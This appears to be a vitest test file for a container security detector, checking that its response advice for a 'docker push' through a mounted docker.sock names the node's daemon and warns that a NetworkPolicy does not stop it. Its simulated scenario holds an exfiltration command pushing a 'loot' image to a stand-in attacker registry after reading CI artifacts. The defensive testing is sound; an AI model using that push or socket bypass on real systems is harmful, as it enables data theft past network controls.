/**
 * What the response says for a `docker push` through a mounted docker.sock: the bytes were sent by the
 * node's docker daemon, from the node's address, not by the pod. "Deny its egress with a NetworkPolicy"
 * alone left a responder believing the pod was contained while it could push again through the socket, and
 * the traffic step named the registry but not the address the daemon sent to, nor that flow logs show it
 * under the node's address.
 */
import { describe, expect, it } from 'vitest';
import { MiB, run, Scenario } from './builder.js';

describe('docker push through docker.sock: the response', () => {
  it("names the daemon's address and the node as the sender, and says a NetworkPolicy does not stop it", () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci', pod: 'jenkins-agent-1', name: 'jnlp' });
    const sh = s.init(c);
    s.readMany(sh, '/home/jenkins/artifacts', 80, MiB);
    s.exec(c, '/usr/bin/docker', 'push registry.evil.example/loot:1', { parent: sh });
    const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
    s.wait(500).connect(dockerd, '203.0.113.9', 443);
    for (let i = 0; i < 20; i++) s.send(dockerd, '203.0.113.9', 443, MiB);
    const [a] = run(s.events).alerts;
    expect(a?.evidence.some((e) => e.kind === 'bridge-egress')).toBe(true);
    const steps = a?.response ?? [];
    const traffic = steps.find((r) => r.startsWith('Analyse traffic')) ?? '';
    expect(traffic).toContain('203.0.113.9:443');
    expect(traffic).toContain("node's docker daemon");
    const isolate = steps.find((r) => r.startsWith('Isolate')) ?? '';
    expect(isolate).toContain('docker.sock');
    expect(isolate).toContain('does not stop');
  });

  it('a docker push with no daemon upload linked keeps the usual steps', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    const docker = s.exec(c, '/usr/bin/docker', 'push registry.evil.example/loot:1', { parent: sh });
    s.connect(docker, '203.0.113.9', 443).send(docker, '203.0.113.9', 443, MiB);
    const [a] = run(s.events).alerts;
    expect(a?.response.join('\n')).not.toContain('docker.sock');
  });
});
